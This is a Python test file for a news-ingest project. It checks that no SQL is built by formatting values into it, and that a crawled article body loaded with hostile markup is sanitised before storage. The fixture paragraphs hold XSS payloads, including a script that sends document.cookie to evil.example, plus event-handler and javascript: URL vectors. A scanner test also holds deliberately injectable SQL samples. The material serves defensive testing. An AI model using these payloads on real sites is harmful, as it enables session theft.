"""Security checks not covered elsewhere: no SQL is built by formatting values into it, and a
hostile article body reaches the database as text only. (``ingest query`` refusing writes,
ATTACH and extensions: tests/test_query.py; ``ingest serve`` escaping body_html:
tests/test_serve.py.)"""

from __future__ import annotations

import ast
import re
from pathlib import Path

import pytest

from .faultserver import article_html, article_url, crawl_rbc, mirror_path, page, serve, site_routes

REPO = Path(__file__).resolve().parent.parent
SOURCES = ("ingest", "pipelines", "spiders")
SQL_WORDS = re.compile(
    r"\b(select|insert|update|delete|pragma|create|drop|alter|attach|vacuum|replace into)\b", re.I
)
# Every place that formats text into SQL, reviewed: (file, first line of the expression) -> why
# no value from outside the code can reach it. A new one fails the test until it is reviewed.
REVIEWED = {
    ("ingest/cli/seen.py", '"select site, count(*), sum(etag is not null), '): (
        "`where` is one of _where's fixed clauses; the site is a bound parameter"
    ),
    ("ingest/store/db.py", 'f"PRAGMA busy_timeout = {int(busy_timeout * 1000)}"'): (
        "an int from settings; PRAGMA takes no bound parameters"
    ),
    ("ingest/query/__init__.py", '"select a.published, a.lang, a.site, a.section, a.title, '): (
        "FILTER_CLAUSES constants, SEARCH_TABLE, highlight_sql() (TEXT_COLUMNS) and BM25_WEIGHTS "
        "floats; the query and filters are bound"
    ),
    ("ingest/cli/query.py", 'f"PRAGMA hard_heap_limit = {int(self.heap_limit)}"'): (
        "an int from settings; PRAGMA takes no bound parameters"
    ),
    ("ingest/query/datasette_plugin/__init__.py", 'f"select {_ARTICLE_COLUMNS}, '): (
        "_ARTICLE_COLUMNS, SEARCH_TABLE, highlight_sql() and the bm25 weights are module "
        "constants; the query, language and limit are bound parameters"
    ),
    ("ingest/store/search_index.py", 'f"create virtual table {SEARCH_TABLE} using fts5('): (
        "SEARCH_TABLE and TEXT_COLUMNS are module constants"
    ),
    (
        "ingest/store/search_index.py",
        'f"delete from {SEARCH_TABLE}',
    ): "SEARCH_TABLE, a module constant",
    ("ingest/store/search_index.py", 'f"insert into {SEARCH_TABLE}'): (
        "SEARCH_TABLE and TEXT_COLUMNS are module constants; the rows are bound"
    ),
    (
        "ingest/store/search_index.py",
        'f"select (select count(*) from articles), (select count(*) ',
    ): ("SEARCH_TABLE, a module constant"),
    ("ingest/query/__init__.py", 'f"select a.* from {source}"'): (
        "source/order/where are fixed strings of export_rows and FILTER_CLAUSES"
    ),
    ("ingest/query/__init__.py", 'f"PRAGMA {arg1}"'): "a refusal message, never executed",
    ("ingest/cli/query.py", 'f"refused: {what}. ingest query is read-only: no writes, ATTACH, "'): (
        "a message, never executed"
    ),
    ("pipelines/storage.py", 'f"PRAGMA wal_autocheckpoint = {WAL_CHECKPOINT_PAGES}"'): (
        "a module constant"
    ),
}


def formatted_sql(path: Path) -> list[str]:
    """First lines of f-strings, ``str.format`` and ``%`` expressions whose text reads as SQL."""
    source = path.read_text("utf-8")
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.JoinedStr):
            text = "".join(str(v.value) for v in node.values if isinstance(v, ast.Constant))
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "format"
            and isinstance(node.func.value, ast.Constant)
        ):
            text = str(node.func.value.value)
        elif isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod):
            left = node.left.value if isinstance(node.left, ast.Constant) else None
            text = left if isinstance(left, str) else ""
        else:
            continue
        segment = ast.get_source_segment(source, node) or ""
        # A concatenation's SQL may sit in a neighbouring literal: look at the whole statement.
        if SQL_WORDS.search(text) or (
            isinstance(node, ast.JoinedStr) and SQL_WORDS.search(segment.split("{")[0])
        ):
            found.append(segment.splitlines()[0].strip().removesuffix("  # noqa: S608").strip())
    return found


def test_no_sql_is_built_by_formatting_values_into_it() -> None:
    """Scans every module for SQL text assembled with f-strings, ``.format`` or ``%``: each
    such place must be in REVIEWED, with why no outside value reaches it."""
    found = set()
    for top in SOURCES:
        for path in sorted((REPO / top).rglob("*.py")):
            rel = path.relative_to(REPO).as_posix()
            for line in formatted_sql(path):
                found.add((rel, line.split("  #")[0]))
    unreviewed = {
        site
        for site in found
        if not any(site[0] == f and site[1].startswith(p) for f, p in REVIEWED)
    }
    assert not unreviewed, f"SQL built by formatting, not reviewed: {sorted(unreviewed)}"
    stale = [k for k in REVIEWED if not any(k[0] == f and s.startswith(k[1]) for f, s in found)]
    assert not stale, f"reviewed places that no longer exist: {stale}"


def test_the_scan_finds_formatted_sql(tmp_path: Path) -> None:
    """The scanner itself: it sees the three ways of formatting a value into a statement."""
    sample = tmp_path / "bad.py"
    sample.write_text(
        "def f(db, name):\n"
        "    db.execute(f\"select * from articles where url = '{name}'\")\n"
        "    db.execute(\"delete from seen where url = '{}'\".format(name))\n"
        "    db.execute(\"update runs set spider = '%s'\" % name)\n"
        '    db.execute("select * from articles where url = ?", [name])\n'
    )
    assert len(formatted_sql(sample)) == 3


# --- a hostile article body, crawled and stored ---------------------------------------------

HOSTILE_PARAGRAPHS = [
    "Київ, 4 липня. Уряд затвердив план ремонту енергетичної інфраструктури до зими, "
    "повідомили в Міністерстві енергетики.<script>document.location='https://evil.example/'"
    "+document.cookie</script>",
    '<span onclick="steal()">На відновлення підстанцій</span> спрямують кошти резервного '
    "фонду<style>body{display:none}</style>, а роботи мають завершити до жовтня.",
    '<img src="x.jpg" onerror="alert(1)"> Деталі: <a href="javascript:alert(document.domain)">'
    "посилання</a> на рішення уряду і подальші кроки міністерства.",
    '<iframe src="https://evil.example/frame"></iframe>Роботи фінансуватимуть '
    '<a href="JaVaScRiPt:alert(2)" onmouseover="x()">частково</a> з державного бюджету.',
    '<svg onload="alert(3)"><script>alert(4)</script></svg>Останній абзац тексту новини '
    "&lt;script&gt;escaped text stays text&lt;/script&gt; про ремонт.",
]
FORBIDDEN = re.compile(
    r"<\s*(script|style|iframe|svg|img|a|span|object|embed)\b|\bon\w+\s*=|javascript:", re.I
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    url = article_url("hostile-markup", 77)
    html = article_html(
        "Уряд затвердив план ремонту",
        HOSTILE_PARAGRAPHS,
        lead='План <b onclick="x()">ремонту</b><script>alert(5)</script> енергетики',
    )
    routes = site_routes([url])
    routes[mirror_path(url)] = page(html.encode())
    db = tmp_path_factory.mktemp("hostile") / "news.db"
    with serve(routes) as server:
        result = crawl_rbc(server, db)
    assert result.returncode == 0, result.log[-3000:]
    assert list(result.articles) == [url], result.stats
    row: dict[str, str] = result.articles[url]
    return row


def test_stored_body_html_has_no_script_style_frames_handlers_or_js_urls(
    hostile: dict[str, str],
) -> None:
    body_html = hostile["body_html"]
    assert not FORBIDDEN.search(body_html), body_html
    # Only the cleaner's rebuilt tags remain.
    assert set(re.findall(r"</?([a-zA-Z0-9]+)", body_html)) <= {"p", "h2", "h3", "h4", "h5", "h6"}
    assert "evil.example" not in body_html
    assert "alert(" not in body_html
    assert "steal()" not in body_html


def test_the_text_survives_as_text(hostile: dict[str, str]) -> None:
    for text in ("Уряд затвердив план", "На відновлення підстанцій", "посилання", "частково"):
        assert text in hostile["body"], text
        assert text in hostile["body_html"], text
    # Text that spells a tag stays text: escaped in body_html, literal in body.
    assert "<script>escaped text stays text</script>" in hostile["body"]
    assert "&lt;script&gt;escaped text stays text&lt;/script&gt;" in hostile["body_html"]
    for column in ("body", "title"):
        assert "document.cookie" not in hostile[column], column
        assert "alert(" not in hostile[column], column
    assert not FORBIDDEN.search(hostile["lead"])  # markup never; see the next test for text


def test_the_lead_keeps_no_script_text(hostile: dict[str, str]) -> None:
    """A <script> inside the lead element is code, not lead text ('План ремонту енергетики')."""
    assert "alert(" not in hostile["lead"]
    assert "План ремонту" in hostile["lead"]
